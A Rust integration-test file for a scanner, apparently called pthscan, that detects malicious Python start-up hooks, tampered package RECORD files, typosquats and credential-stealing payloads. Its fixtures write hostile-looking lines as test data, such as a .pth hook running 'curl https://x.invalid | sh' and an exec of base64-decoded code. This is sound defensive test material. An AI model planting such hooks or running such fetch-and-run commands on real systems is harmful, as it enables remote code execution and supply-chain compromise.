//! CLI integration tests: the built binary on environments written to temporary directories.

mod artifacts;
mod cli;
mod confined;
mod database;
mod deploy;
mod fleet;
mod host;
mod hostile;
mod images;
mod lockfiles;
mod oracle;
mod policy;
mod processes;
mod sandbox;
mod startup;
mod stores;
mod timeline;
mod util;

use std::os::unix::fs::symlink;
use std::path::Path;

use util::*;

const SP: &str = "venv/lib/python3.12/site-packages";

fn venv(dir: &Path) -> std::path::PathBuf {
    let sp = dir.join(SP);
    std::fs::create_dir_all(&sp).unwrap();
    std::fs::write(dir.join("venv/pyvenv.cfg"), "version = 3.12.4\n").unwrap();
    sp
}

/// Installs `dist` 1.0's metadata in the site directory `sp`: a METADATA and a RECORD of
/// `rows` (and of itself).
fn dist_info(sp: &Path, dist: &str, rows: &[String]) {
    let info = sp.join(format!("{dist}-1.0.dist-info"));
    std::fs::create_dir_all(&info).unwrap();
    let meta = format!("Metadata-Version: 2.1\nName: {dist}\nVersion: 1.0\n\n");
    std::fs::write(info.join("METADATA"), meta).unwrap();
    let own = format!("{dist}-1.0.dist-info/RECORD,,\n");
    std::fs::write(info.join("RECORD"), [rows.concat(), own].concat()).unwrap();
}

#[test]
fn every_corpus_case_yields_exactly_its_expected_findings() {
    let names = case_names();
    assert!(names.len() >= 10, "{names:?}");
    let mut drift = Vec::new();
    for name in names {
        let case = load_case(&name);
        assert!(!case.description.is_empty());
        let dir = tempfile::tempdir().unwrap();
        materialize(&case, dir.path());
        let args: Vec<&str> = case.args.iter().map(String::as_str).collect();
        let (json, out) = scan_json(dir.path(), &args);
        let mut expected = case.expect.clone();
        expected.sort();
        let with_runs_on = |e: &Expect| {
            expected.iter().any(|x| {
                x.runs_on.is_some() && x.rule == e.rule && x.path == e.path && x.line == e.line
            })
        };
        let got = findings_as_expect(&json, dir.path(), &with_runs_on);
        if got != expected {
            // every case that differs, not only the first
            drift.push(format!(
                "case `{name}`:\n  got      {got:?}\n  expected {expected:?}\n{}",
                stderr(&out)
            ));
            continue;
        }
        assert_eq!(
            json["diagnostics"].as_array().unwrap().len(),
            0,
            "case `{name}`"
        );
        let worst_is_high = expected
            .iter()
            .any(|e| e.severity == "high" || e.severity == "critical");
        assert_eq!(
            code(&out),
            if worst_is_high { 1 } else { 0 },
            "case `{name}`"
        );
    }
    assert!(drift.is_empty(), "{}", drift.join("\n"));
}

#[test]
fn benign_case_never_reaches_high_even_with_fail_on_low() {
    let dir = tempfile::tempdir().unwrap();
    materialize(&load_case("benign-hooks"), dir.path());
    let (json, out) = scan_json(dir.path(), &["--fail-on", "low"]);
    assert_eq!(code(&out), 0, "{json}");
    assert!(
        json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["severity"] == "info")
    );
    assert!(
        json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["known_good"].is_string())
    );
}

#[test]
fn exit_codes_follow_fail_on() {
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    std::fs::write(sp.join("x.pth"), "import _shim\n").unwrap(); // unknown: medium
    let p = dir.path().to_str().unwrap();
    assert_eq!(code(&pthscan(&[p])), 0);
    assert_eq!(code(&pthscan(&[p, "--fail-on", "medium"])), 1);
    assert_eq!(code(&pthscan(&[p, "--fail-on", "critical"])), 0);
    std::fs::write(
        sp.join("y.pth"),
        "import os; os.system('curl https://x.invalid | sh')\n",
    )
    .unwrap();
    assert_eq!(code(&pthscan(&[p])), 1);
}

#[test]
fn missing_path_is_a_message_and_other_paths_still_scanned() {
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    std::fs::write(sp.join("x.pth"), "import os; os.system('id')\n").unwrap();
    let out = pthscan(&[dir.path().to_str().unwrap(), "/nonexistent/pthscan-test"]);
    // the hook found is at the threshold: 1, whatever else could not be read
    assert_eq!(code(&out), 1);
    assert!(
        stderr(&out).contains("error: /nonexistent/pthscan-test: no such file or directory"),
        "{}",
        stderr(&out)
    );
    // the text report names the file once, then each finding's line under it
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("/x.pth\n") && text.contains("line 1: "),
        "{text}"
    );
}

/// The contract a gate relies on: 1 whenever a finding is at or above `--fail-on`, even beside
/// an input that could not be read; 2 only when nothing is at the threshold and something
/// could not be judged; 0 when everything was judged and nothing is at the threshold. The
/// JSON says apart whether the scan was complete.
#[test]
fn exit_codes_put_findings_before_what_could_not_be_read() {
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    std::fs::write(
        sp.join("x.pth"),
        "import os; os.system('curl x.invalid | sh')\n",
    )
    .unwrap();
    let p = dir.path().to_str().unwrap();
    let missing = "/nonexistent/pthscan-exit-matrix";
    let run = |args: &[&str]| {
        let mut all = vec!["--format", "json"];
        all.extend_from_slice(args);
        let out = pthscan(&all);
        let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        (code(&out), json["summary"]["incomplete"].as_bool().unwrap())
    };
    assert_eq!(run(&[p]), (1, false));
    assert_eq!(run(&[p, missing]), (1, true));
    assert!(run(&[p, missing, "--fail-on", "critical"]).1);
    // nothing at the threshold: what could not be read decides
    let clean = tempfile::tempdir().unwrap();
    venv(clean.path());
    let c = clean.path().to_str().unwrap();
    assert_eq!(run(&[c]), (0, false));
    assert_eq!(run(&[c, missing]), (2, true));
}

#[test]
fn fifo_is_noted_and_skipped_without_hanging() {
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    assert!(
        std::process::Command::new("mkfifo")
            .arg(sp.join("evil.pth"))
            .status()
            .unwrap()
            .success()
    );
    std::fs::write(sp.join("ok.pth"), "import os; os.system('id')\n").unwrap();
    let (json, out) = scan_json(dir.path(), &[]);
    assert_eq!(code(&out), 1);
    assert_eq!(json["summary"]["incomplete"], true);
    assert_eq!(json["summary"]["skipped"], 1);
    let d = &json["diagnostics"][0];
    assert!(d["path"].as_str().unwrap().ends_with("evil.pth"));
    assert_eq!(d["message"], "not a regular file (FIFO), skipped");
    assert_eq!(
        json["findings"][0]["rule"], "PTH001",
        "the scan goes on after the FIFO"
    );
}

#[test]
fn symlink_loops_and_links_out_of_the_root_are_reported_not_followed() {
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(
        outside.path().join("evil.pth"),
        "import os; os.system('id')\n",
    )
    .unwrap();
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    symlink("b.pth", sp.join("a.pth")).unwrap();
    symlink("a.pth", sp.join("b.pth")).unwrap();
    symlink(outside.path().join("evil.pth"), sp.join("out.pth")).unwrap();
    symlink("/", sp.join("rootlink")).unwrap(); // a directory loop candidate: never walked into
    let (json, out) = scan_json(dir.path(), &[]);
    assert_eq!(code(&out), 2);
    let messages: Vec<String> = json["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["message"].as_str().unwrap().to_owned())
        .collect();
    assert!(
        messages
            .iter()
            .filter(|m| m.contains("symlink loop"))
            .count()
            == 2,
        "{messages:?}"
    );
    assert!(
        messages
            .iter()
            .any(|m| m.contains("leads outside the scanned root")),
        "{messages:?}"
    );
    assert!(json["findings"].as_array().unwrap().is_empty());
}

#[test]
fn unreadable_hook_is_reported() {
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    // A dangling link fails the same way a permission error does (an I/O error on open);
    // root can read anything, so permission denied is only checkable as another user.
    symlink("missing-target.pth", sp.join("dangling.pth")).unwrap();
    let (json, out) = scan_json(dir.path(), &[]);
    assert_eq!(code(&out), 2);
    assert!(
        json["diagnostics"][0]["message"]
            .as_str()
            .unwrap()
            .contains("no such file"),
        "{json}"
    );
    assert!(stderr(&out).contains("dangling.pth"));
}

#[test]
fn non_utf8_names_and_contents_empty_and_huge_files() {
    use std::os::unix::ffi::OsStrExt;
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    let weird = sp.join(std::ffi::OsStr::from_bytes(b"\xff\xfe.pth"));
    std::fs::write(&weird, b"import _shim\n").unwrap();
    std::fs::write(sp.join("latin.pth"), b"caf\xe9\x85import _other\n").unwrap();
    std::fs::write(sp.join("empty.pth"), b"").unwrap();
    let mut huge = b"import os; os.system('id')\n".to_vec();
    huge.extend(std::iter::repeat_n(b'#', 8192));
    std::fs::write(sp.join("huge.pth"), &huge).unwrap();
    let (json, out) = scan_json(dir.path(), &["--max-file-size", "4096"]);
    assert_eq!(code(&out), 1, "findings first");
    assert_eq!(
        json["summary"]["incomplete"], true,
        "the huge file was only partly read"
    );
    let findings = json["findings"].as_array().unwrap();
    let paths: Vec<&str> = findings
        .iter()
        .map(|f| f["location"]["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.iter().any(|p| p.ends_with("/\\xff\\xfe.pth")),
        "{paths:?}"
    );
    let latin = findings
        .iter()
        .find(|f| {
            f["location"]["path"]
                .as_str()
                .unwrap()
                .ends_with("latin.pth")
        })
        .expect("latin.pth");
    assert_eq!(
        latin["runs_on"],
        serde_json::json!(["3.13-3.14", "3.15-3.17"])
    );
    assert!(
        paths.iter().any(|p| p.ends_with("huge.pth")),
        "the head of a huge file is still judged"
    );
    assert!(!paths.iter().any(|p| p.ends_with("empty.pth")));
    let diag = json["diagnostics"].as_array().unwrap();
    assert!(
        diag.iter().any(|d| d["message"]
            .as_str()
            .unwrap()
            .contains("larger than the 4096-byte cap")),
        "{diag:?}"
    );
}

#[test]
fn the_scanned_tree_is_never_written() {
    let dir = tempfile::tempdir().unwrap();
    materialize(&load_case("litellm-init"), dir.path());
    let snapshot = |p: &Path| {
        let mut all = Vec::new();
        for e in walk(p) {
            let m = std::fs::symlink_metadata(&e).unwrap();
            all.push((
                e.clone(),
                m.len(),
                m.modified().unwrap(),
                std::fs::read(&e).ok(),
            ));
        }
        all
    };
    let before = snapshot(dir.path());
    let _ = pthscan(&[dir.path().to_str().unwrap()]);
    assert_eq!(before, snapshot(dir.path()));
}

fn walk(p: &Path) -> Vec<std::path::PathBuf> {
    let mut out = vec![p.to_path_buf()];
    if p.is_dir() {
        let mut entries: Vec<_> = std::fs::read_dir(p)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        entries.sort();
        for e in entries {
            out.extend(walk(&e));
        }
    }
    out
}

#[test]
fn root_takes_paths_and_absolute_symlinks_inside_the_image() {
    let img = tempfile::tempdir().unwrap();
    let r = img.path();
    std::fs::create_dir_all(r.join("etc/python3.11")).unwrap();
    std::fs::create_dir_all(r.join("usr/lib/python3.11")).unwrap();
    std::fs::create_dir_all(r.join("usr/lib/python3/dist-packages")).unwrap();
    std::fs::write(r.join("usr/lib/python3.11/os.py"), "").unwrap();
    std::fs::write(
        r.join("etc/python3.11/sitecustomize.py"),
        "import os\nos.system('curl https://x.invalid/a | sh')\n",
    )
    .unwrap();
    symlink(
        "/etc/python3.11/sitecustomize.py",
        r.join("usr/lib/python3.11/sitecustomize.py"),
    )
    .unwrap();
    let out = pthscan(&["--root", r.to_str().unwrap(), "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let cus: Vec<&str> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "CUS001")
        .map(|f| f["location"]["path"].as_str().unwrap())
        .collect();
    assert_eq!(cus.len(), 2, "both places on sys.path are reported: {json}");
    assert!(
        cus.iter()
            .all(|p| p.starts_with(std::fs::canonicalize(r).unwrap().to_str().unwrap()))
    );
    assert_eq!(code(&out), 1, "{}", stderr(&out));
}

#[test]
fn one_environment_split_over_two_scanned_places_is_reported_once() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    std::fs::create_dir_all(r.join("usr/lib/python3/dist-packages")).unwrap();
    std::fs::create_dir_all(r.join("usr/lib/python3.11")).unwrap();
    std::fs::write(r.join("usr/lib/python3.11/os.py"), "").unwrap();
    std::fs::write(
        r.join("usr/lib/python3/dist-packages/x.pth"),
        "import _shim\n",
    )
    .unwrap();
    let a = r.join("usr/lib/python3");
    let b = r.join("usr/lib/python3.11");
    let out = pthscan(&[a.to_str().unwrap(), b.to_str().unwrap(), "--format", "json"]);
    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(json["environments"].as_array().unwrap().len(), 1, "{json}");
    assert_eq!(json["environments"][0]["python"], "3.11");
    assert_eq!(json["findings"].as_array().unwrap().len(), 1);
}

#[test]
fn explain_prints_the_rule_doc_and_rejects_unknown_rules() {
    let out = pthscan(&["explain", "PTH001"]);
    assert_eq!(code(&out), 0);
    let text = String::from_utf8_lossy(&out.stdout);
    for heading in ["What it finds", "Why it matters", "Example", "References"] {
        assert!(text.contains(heading), "{text}");
    }
    let all = pthscan(&["explain", "all"]);
    let listed = String::from_utf8_lossy(&all.stdout);
    for id in [
        "PTH001", "PTH002", "PTH003", "PTH010", "START001", "START002", "CUS001", "CUS002",
        "CUS003", "IMP001",
    ] {
        assert!(listed.contains(id), "{id} missing from `explain all`");
    }
    let bad = pthscan(&["explain", "NOPE1"]);
    assert_eq!(code(&bad), 2);
    assert!(stderr(&bad).starts_with("error: unknown rule `NOPE1`"));
}

mod output;

#[test]
fn decoded_layers_carry_their_chain_and_deep_finds_what_the_default_scan_does_not() {
    let dir = tempfile::tempdir().unwrap();
    materialize(&load_case("litellm-1828-chain"), dir.path());
    let (json, _) = scan_json(dir.path(), &[]);
    let chain_of = |rule: &str| -> Vec<String> {
        let f = json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .find(|f| f["rule"] == rule)
            .unwrap_or_else(|| panic!("no {rule}"));
        serde_json::from_value(f["decoded"].clone()).unwrap_or_default()
    };
    assert_eq!(chain_of("teampcp-pth-launcher"), Vec::<String>::new());
    assert_eq!(chain_of("teampcp-markers"), ["base64"]);
    assert_eq!(chain_of("cred-sweep-stores"), ["base64", "base64"]);
    let text = stdout(&pthscan(&[dir.path().to_str().unwrap()]));
    assert!(
        text.contains("decoded: base64 → base64 → cred-sweep-stores"),
        "{text}"
    );

    // 1.82.7: the payload is in an ordinary module; without --deep only the IOC says so
    let dir = tempfile::tempdir().unwrap();
    materialize(&load_case("litellm-1827-proxy-server"), dir.path());
    let (json, _) = scan_json(dir.path(), &[]);
    let rules: Vec<&str> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    assert_eq!(rules, ["MAL001"]);
    let message = json["findings"][0]["message"].as_str().unwrap();
    assert!(
        message.contains("MAL-2026-2144 (PYSEC-2026-2)"),
        "{message}"
    );
}

#[test]
fn user_rules_add_findings_and_a_bad_rule_stops_with_the_compiler_message() {
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    std::fs::write(sp.join("corp.pth"), "import corp_boot\n").unwrap();
    std::fs::write(sp.join("corp_boot.py"), "TOKEN = 'ACME-CANARY-7731'\n").unwrap();
    let rules = tempfile::tempdir().unwrap();
    std::fs::write(
        rules.path().join("canary.yar"),
        "rule acme_canary {\n  meta:\n    id = \"acme-canary\"\n    severity = \"critical\"\n    description = \"our canary token\"\n    reference = \"wiki/canary\"\n  strings:\n    $a = \"ACME-CANARY-\"\n  condition:\n    $a\n}\n",
    )
    .unwrap();
    let (json, out) = scan_json(dir.path(), &["--rules", rules.path().to_str().unwrap()]);
    assert_eq!(code(&out), 1, "{}", stderr(&out));
    let f = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "acme-canary")
        .expect("user rule finding");
    assert_eq!(f["severity"], "critical");
    assert!(
        f["location"]["path"]
            .as_str()
            .unwrap()
            .ends_with("corp_boot.py")
    );

    std::fs::write(
        rules.path().join("broken.yar"),
        "rule broken {\n  condition:\n    $missing\n}\n",
    )
    .unwrap();
    let out = pthscan(&[
        dir.path().to_str().unwrap(),
        "--rules",
        rules.path().to_str().unwrap(),
    ]);
    assert_eq!(code(&out), 2);
    let err = stderr(&out);
    assert!(
        err.contains("broken.yar") && err.contains("$missing"),
        "{err}"
    );
    assert!(out.stdout.is_empty());
}

#[test]
fn explain_covers_payload_rules_and_iocs() {
    let out = pthscan(&["explain", "cred-ssh-keys"]);
    assert_eq!(code(&out), 0);
    assert!(stdout(&out).contains("signatures/rules/credentials.yar"));
    let out = pthscan(&["explain", "MAL-2026-2144"]);
    assert!(
        stdout(&out).contains("litellm 1.82.7, 1.82.8"),
        "{}",
        stdout(&out)
    );
    assert!(stdout(&out).contains("PYSEC-2026-2"), "{}", stdout(&out));
    let all = stdout(&pthscan(&["explain", "all"]));
    for family in [
        "credentials",
        "exfiltration",
        "obfuscation",
        "persistence",
        "kubernetes",
        "teampcp",
        "dropper",
    ] {
        assert!(
            all.contains(&format!("Payload rules, {family}")),
            "{family}"
        );
    }
}

#[test]
fn deep_reports_the_size_cap_and_the_rule_timeout_when_hit() {
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    std::fs::create_dir_all(sp.join("pkg")).unwrap();
    std::fs::write(sp.join("pkg/big.py"), "x = 1\n".repeat(100_000)).unwrap();
    // the size cap: judged by its head, noted, the verdict stands
    let (json, out) = scan_json(dir.path(), &["--deep", "--max-file-size", "1000"]);
    assert_eq!(code(&out), 0, "{}", stderr(&out));
    let diags = json["diagnostics"].as_array().unwrap();
    assert!(
        diags
            .iter()
            .any(|d| d["path"].as_str().unwrap().ends_with("big.py")
                && d["message"].as_str().unwrap().contains("first 1000")
                && d["incomplete"] == false),
        "{diags:?}"
    );
    // the timeout: a deliberately slow user rule, reported as not judged (exit 2)
    let rules = tempfile::tempdir().unwrap();
    std::fs::write(
        rules.path().join("slow.yar"),
        "rule slow { condition: for all i in (0..filesize) : ( for all j in (0..100000) : ( uint8(i) != 0x100 ) ) }\n",
    )
    .unwrap();
    let (json, out) = scan_json(
        dir.path(),
        &[
            "--deep",
            "--scan-timeout",
            "1",
            "--rules",
            rules.path().to_str().unwrap(),
        ],
    );
    assert_eq!(code(&out), 2, "{}", stderr(&out));
    assert!(
        json["diagnostics"]
            .as_array()
            .unwrap()
            .iter()
            .any(
                |d| d["message"].as_str().unwrap().contains("timed out") && d["incomplete"] == true
            ),
        "{json}"
    );
}

#[test]
fn the_default_scan_finds_missing_and_resized_listed_files_wherever_they_are() {
    // sizes come from the walk of the site directory where it saw a regular file, and from a
    // lookup by path for everything else (links, files outside site-packages, __pycache__):
    // both must give the same verdicts
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    let row = |path: &str, size: usize| format!("{path},sha256=AAAA,{size}\n");
    let put = |rel: &str, data: &[u8]| {
        let p = sp.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, data).unwrap();
    };
    put("tool/same.py", b"x = 1\n");
    put("tool/grown.py", b"x = 1\n# more\n");
    put("tool/__pycache__/same.cpython-312.pyc", b"0123456789");
    put("tool/__pycache__/grown.cpython-312.pyc", b"0123456789abc");
    put("tool/data/real.txt", b"12345");
    std::os::unix::fs::symlink("data/real.txt", sp.join("tool/linked.txt")).unwrap();
    std::os::unix::fs::symlink("data/real.txt", sp.join("tool/linked-wrong.txt")).unwrap();
    std::fs::create_dir_all(dir.path().join("venv/bin")).unwrap();
    std::fs::write(
        dir.path().join("venv/bin/tool"),
        b"#!/bin/sh\nexit 0\n# grown\n",
    )
    .unwrap();
    std::fs::write(dir.path().join("venv/bin/same"), b"#!/bin/sh\n").unwrap();
    dist_info(
        &sp,
        "tool",
        &[
            row("tool/same.py", 6),
            row("tool/grown.py", 6),
            row("tool/gone.py", 6),
            row("tool/__pycache__/same.cpython-312.pyc", 10),
            row("tool/__pycache__/grown.cpython-312.pyc", 10),
            row("tool/data/real.txt", 5),
            row("tool/linked.txt", 5),
            row("tool/linked-wrong.txt", 4),
            row("../../../bin/tool", 17),
            row("../../../bin/same", 10),
            row("../../../bin/gone", 3),
            row("tool_init.pth", 10),
        ],
    );
    let (json, _) = scan_json(dir.path(), &[]);
    let mut found: Vec<(String, String, String)> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "INT001" || f["rule"] == "INT002")
        .map(|f| {
            let p = f["location"]["path"].as_str().unwrap();
            (
                f["rule"].as_str().unwrap().to_owned(),
                f["severity"].as_str().unwrap().to_owned(),
                p.rsplit('/').next().unwrap().to_owned(),
            )
        })
        .collect();
    found.sort();
    let want: Vec<(String, String, String)> = [
        // one finding per RECORD, medium because a missing file is a start-up hook
        ("INT001", "medium", "RECORD"),
        ("INT002", "low", "grown.cpython-312.pyc"),
        ("INT002", "low", "grown.py"),
        ("INT002", "low", "linked-wrong.txt"),
        ("INT002", "low", "tool"),
    ]
    .iter()
    .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
    .collect();
    assert_eq!(found, want, "{json:#}");
    let missing = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == "INT001")
        .unwrap();
    assert_eq!(
        missing["message"], "3 file(s) that tool's RECORD lists are missing",
        "{missing:#}"
    );
    for gone in ["tool/gone.py", "../../../bin/gone", "tool_init.pth"] {
        assert!(
            missing["evidence"].as_str().unwrap().contains(gone),
            "{missing:#}"
        );
    }
}

#[test]
fn deep_checks_every_record_hash_in_the_same_read_and_outside_site_packages_too() {
    use base64::Engine;
    use sha2::Digest;
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    let row = |path: &str, listed: &[u8]| {
        let digest =
            base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(listed));
        format!("{path},sha256={digest},{}\n", listed.len())
    };
    // same size as listed, other bytes: only a hash tells
    std::fs::create_dir_all(sp.join("tool")).unwrap();
    std::fs::write(sp.join("tool/core.py"), b"x = 2\n").unwrap();
    std::fs::write(sp.join("tool/ok.py"), b"y = 1\n").unwrap();
    std::fs::create_dir_all(dir.path().join("venv/bin")).unwrap();
    std::fs::write(dir.path().join("venv/bin/tool"), b"#!/bin/sh\nexit 9\n").unwrap();
    dist_info(
        &sp,
        "tool",
        &[
            row("tool/core.py", b"x = 1\n"),
            row("tool/ok.py", b"y = 1\n"),
            row("../../../bin/tool", b"#!/bin/sh\nexit 0\n"),
        ],
    );
    let int002 = |json: &serde_json::Value| -> Vec<(String, String)> {
        let mut v: Vec<(String, String)> = json["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["rule"] == "INT002")
            .map(|f| {
                let p = f["location"]["path"].as_str().unwrap();
                (
                    p.rsplit('/').next().unwrap().to_owned(),
                    f["severity"].as_str().unwrap().to_owned(),
                )
            })
            .collect();
        v.sort();
        v
    };
    let (json, _) = scan_json(dir.path(), &[]);
    assert_eq!(
        int002(&json),
        Vec::<(String, String)>::new(),
        "sizes match: the default scan cannot tell"
    );
    let (json, _) = scan_json(dir.path(), &["--deep"]);
    assert_eq!(
        int002(&json),
        [
            ("core.py".to_owned(), "medium".to_owned()),
            ("tool".to_owned(), "medium".to_owned())
        ]
    );
}

/// A venv's `lib64 -> lib` link puts one site directory on the path twice (the start-up model
/// lists both): `--deep` judges each file once.
#[test]
fn deep_judges_a_directory_reached_by_two_paths_once() {
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    symlink("lib", dir.path().join("venv/lib64")).unwrap();
    std::fs::create_dir_all(sp.join("pkg")).unwrap();
    std::fs::write(
        sp.join("pkg/steal.py"),
        b"import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
    )
    .unwrap();
    let (json, _) = scan_json(dir.path(), &["--deep"]);
    // each rule once: the file is judged once, whichever path reached it
    let mut on_steal: Vec<&str> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| {
            f["location"]["path"]
                .as_str()
                .unwrap()
                .ends_with("pkg/steal.py")
        })
        .map(|f| f["rule"].as_str().unwrap())
        .collect();
    on_steal.sort_unstable();
    assert_eq!(
        on_steal,
        ["flow-decoded-exec", "obf-exec-decoded"],
        "{json:#}"
    );
}

#[test]
fn a_typosquat_that_installs_the_popular_package_is_high() {
    let dir = tempfile::tempdir().unwrap();
    let sp = venv(dir.path());
    for (dist, package) in [("jinja22", "jinja2"), ("psycopg2-binary", "psycopg2")] {
        std::fs::create_dir_all(sp.join(package)).unwrap();
        std::fs::write(sp.join(package).join("__init__.py"), "").unwrap();
        dist_info(&sp, dist, &[format!("{package}/__init__.py,,\n")]);
    }
    dist_info(
        &sp,
        "types-requests",
        &["requests-stubs/__init__.pyi,,\n".into()],
    );
    let (json, _) = scan_json(dir.path(), &[]);
    let found: Vec<(&str, &str, &str)> = json["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"].as_str().unwrap().starts_with("TYP"))
        .map(|f| {
            (
                f["rule"].as_str().unwrap(),
                f["severity"].as_str().unwrap(),
                f["distribution"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        found,
        [
            ("TYP001", "high", "jinja22 1.0"),
            ("TYP002", "high", "jinja22 1.0")
        ],
        "{json:#}"
    );
}
